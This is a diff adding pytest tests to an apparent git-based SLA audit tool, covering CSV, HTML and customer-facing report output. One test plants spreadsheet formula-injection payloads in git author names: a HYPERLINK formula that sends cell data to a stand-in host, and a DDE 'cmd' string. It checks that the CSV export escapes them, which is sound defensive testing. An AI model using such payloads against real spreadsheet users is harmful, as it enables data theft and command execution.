@@ -24,6 +24,7 @@ import contextlib
 import csv
 import io
 import os
+import re
 import subprocess
 import xml.etree.ElementTree as ET
 from decimal import Decimal
@@ -407,6 +408,24 @@ def test_csv_reads_back_one_row_per_version(history: Project, ids: dict[str, str
     assert [(r["document"], r["version"]) for r in snapshot] == [(GLOBEX, "4"), (INITECH, "1")]
 
 
+def test_csv_never_hands_a_spreadsheet_a_formula(repo: GitProject) -> None:
+    """Git lets anyone name themselves ``=HYPERLINK(...)``: the cell stays text."""
+    repo.write("slas/globex.yaml", sla(2, "2025-03-01", "99.5"))
+    git(repo.root, "add", "-A")
+    evil = {"GIT_AUTHOR_NAME": '=HYPERLINK("http://x.example/?"&A1)',
+            "GIT_AUTHOR_EMAIL": "x@x.example", "GIT_COMMITTER_NAME": "+cmd|' /C calc'!A0",
+            "GIT_COMMITTER_EMAIL": "c@x.example", "GIT_AUTHOR_DATE": "2025-02-01T12:00:00Z",
+            "GIT_COMMITTER_DATE": "2025-02-01T12:00:00Z"}
+    git(repo.root, "commit", "-q", "-m", "loosen", env=evil)
+    run = repo.run("audit", "--format", "csv")
+    assert run.code == 0, run.err
+    rows = list(csv.reader(io.StringIO(run.out)))
+    risky = [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert risky == []
+    authors = [row[rows[0].index("author")] for row in rows[1:]]
+    assert "'=HYPERLINK(\"http://x.example/?\"&A1) <x@x.example>" in authors
+
+
 def test_markdown_has_a_table_per_agreement(history: Project, ids: dict[str, str]) -> None:
     out = audit(history, "--format", "markdown").out
     assert out.startswith("# Agreement audit\n")
@@ -468,9 +487,11 @@ def test_html_is_one_self_contained_file_with_a_chart_per_agreement(history: Pro
     globex, initech_ = (ET.fromstring(svg) for svg in page.svgs)
     for chart, markers in ((globex, 5), (initech_, 3)):
         panels = chart.findall("s:g[@class='objective']", namespace)
-        assert [p.get("data-objective") for p in panels] == ["availability", "latency-p95"]
+        assert [(p.get("data-objective"), p.get("data-measure")) for p in panels] == [
+            ("availability", "target"), ("latency-p95", "target"), ("latency-p95", "threshold")]
         for panel in panels:
-            [line] = panel.findall("s:path[@class='sla-target']", namespace)
+            kind = "sla-threshold" if panel.get("data-measure") == "threshold" else "sla-target"
+            [line] = panel.findall(f"s:path[@class='{kind}']", namespace)
             assert line.get("d", "").startswith("M")
         assert len(chart.findall(".//s:circle", namespace)) == markers
     kinds = [c.get("class") for c in globex.findall(".//s:circle", namespace)]
@@ -481,6 +502,80 @@ def test_html_is_one_self_contained_file_with_a_chart_per_agreement(history: Pro
     assert len(backing) == 1
     assert "99.95% (SLO/public-api-availability)" in (backing[0].findtext("s:title", "",
                                                                             namespace))
+
+
+def _panel(out: str, objective: str, measure: str) -> ET.Element:
+    page = _Html()
+    page.feed(out)
+    namespace = {"s": "http://www.w3.org/2000/svg"}
+    chart = ET.fromstring(page.svgs[0])
+    [panel] = [p for p in chart.findall("s:g[@class='objective']", namespace)
+               if (p.get("data-objective"), p.get("data-measure")) == (objective, measure)]
+    return panel
+
+
+def test_html_charts_a_loosened_latency_threshold(repo: GitProject) -> None:
+    """500 ms to 800 ms at the same 95%: the target's line stays flat, the threshold's rises."""
+    repo.write("slas/globex.yaml", sla(2, "2025-06-01", threshold="800ms"))
+    repo.commit("slower is fine", date="2025-05-01T12:00:00+00:00")
+    out = repo.run("audit", "--format", "html").out
+    namespace = {"s": "http://www.w3.org/2000/svg"}
+    target = _panel(out, "latency-p95", "target").find("s:path", namespace)
+    threshold = _panel(out, "latency-p95", "threshold").find("s:path", namespace)
+    assert target is not None and threshold is not None
+    def levels(path: ET.Element) -> list[str]:
+        return list(dict.fromkeys(re.findall(r"(?:M[\d.]+,|V)([\d.]+)", path.get("d", ""))))
+
+    assert len(levels(target)) == 1  # one level: 95% throughout
+    low, high = levels(threshold)
+    assert float(high) < float(low)  # 800 ms is higher on the page
+    assert threshold.findtext("s:title", "", namespace) == (
+        "latency-p95: SLA threshold in force — from 2025-01-01: 500ms; from 2025-06-01: 800ms")
+    labels = [t.text for t in _panel(out, "latency-p95", "threshold").findall("s:text",
+                                                                              namespace)]
+    assert labels[:2] == ["latency-p95", "threshold"] and "800ms" in labels
+
+
+def test_html_title(history: Project) -> None:
+    out = audit(history, "--format", "html", "--title", "Acme & Globex: Q4 review").out
+    assert "<title>Acme &amp; Globex: Q4 review</title>" in out
+    assert "<h1>Acme &amp; Globex: Q4 review</h1>" in out
+
+
+def test_html_for_a_customer_leaves_out_what_is_internal(history: Project,
+                                                         ids: dict[str, str]) -> None:
+    """What an account manager can send: terms and their history, in words."""
+    run = audit(history, "slas/globex-public-api.yaml", "--format", "html", "--audience",
+                "customer", "--title", "Globex: your service levels")
+    assert run.code == 0, run.err
+    out = run.out.split("</style>", 1)[1]  # what the page says
+    assert "<h1>Globex: your service levels</h1>" in out
+    assert "objective availability target: 99.95 → 99.5" in out  # words, not YAML paths
+    leaks = [sha[:7] for sha in ids.values() if sha[:7] in out]
+    assert leaks == []  # no commit hash
+    for internal in ("spec.", "slas/", ".yaml", "SLO/", "slo-target", "backing SLO",
+                     "@acme.example", "Dev", "approv", "Policy", "roster"):
+        assert internal not in out, internal
+    assert ids["C11"][:7] not in out and "owner" not in out  # a metadata edit is internal
+    page = _Html()
+    page.feed(out)
+    assert len(page.svgs) == 1
+
+
+def test_html_snapshot_for_a_customer(history: Project, ids: dict[str, str]) -> None:
+    out = audit(history, "--format", "html", "--audience", "customer", "--as-of",
+                "2025-07-15").out.split("</style>", 1)[1]
+    assert "<h1>Terms in force on 2025-07-15</h1>" in out
+    assert "availability: 99%" in out and "backed by" not in out
+    assert not [sha for sha in ids.values() if sha[:7] in out]
+    assert "retroactive edit" not in out and ".yaml" not in out
+
+
+@pytest.mark.parametrize("option", [["--audience", "customer"], ["--title", "Q4"]])
+def test_title_and_audience_shape_the_html_report_only(history: Project,
+                                                        option: list[str]) -> None:
+    run = audit(history, "--format", "markdown", *option)
+    assert run.code == 2 and "--format html" in run.err
 
 
 def test_html_snapshot(history: Project) -> None:
@@ -534,6 +629,35 @@ def test_a_merge_is_one_change_and_its_branch_authors_cannot_approve(repo: GitPr
     [alice] = tightened["approvals"]
     assert "alice@acme.example authored commit " in alice["reason"]
     assert "nobody approves their own change" in alice["reason"]
+
+
+def test_a_policy_that_cannot_be_read_names_the_file_at_its_commit(repo: GitProject) -> None:
+    repo.write(".slopolicy.yaml", POLICY.replace("extends: default", "extends: team/base.yaml"))
+    repo.write("team/base.yaml", "approvals: {trailers: sometimes}\n")
+    broken = repo.commit("broken policy")[:7]
+    repo.write("slas/globex.yaml", sla(2, "2025-04-01", "99.95"))
+    tightened = repo.commit("tighten")[:7]
+    repo.write("team/base.yaml", "rules: {}\n")  # mended: the working tree reads
+    repo.commit("mend the policy")
+    run = repo.run("audit", "--verify")
+    assert run.code == 1
+    assert (f"  {tightened} SLA/globex-public-api v2 tightened (2025-03-10): the policy at "
+            f"{broken} cannot be read: {broken}:team/base.yaml:1:23: approvals.trailers: "
+            "'sometimes' is not allowed") in run.err
+    assert str(repo.root) not in run.err and "slopolicy-audit-" not in run.err
+
+
+def test_the_policy_extends_a_file_the_walk_does_not_follow(repo: GitProject) -> None:
+    """The roster of a commit comes from an extended file of any name, read at that commit."""
+    repo.write("team/approvals.conf", POLICY)
+    repo.write(".slopolicy.yaml", "extends: team/approvals.conf\n")
+    repo.commit("the roster moves", author="carol")
+    repo.write("slas/globex.yaml", sla(2, "2025-04-01", "99.95"))
+    tightened = repo.commit("tighten")[:7]
+    run = repo.run("audit", "--verify")
+    assert run.code == 1
+    assert (f"  {tightened} SLA/globex-public-api v2 tightened (2025-03-10): 1 more legal "
+            "approver (for modified; legal: alice@acme.example") in run.err
 
 
 def test_a_shallow_clone_is_refused(built: tuple[Path, dict[str, str]], tmp_path: Path,
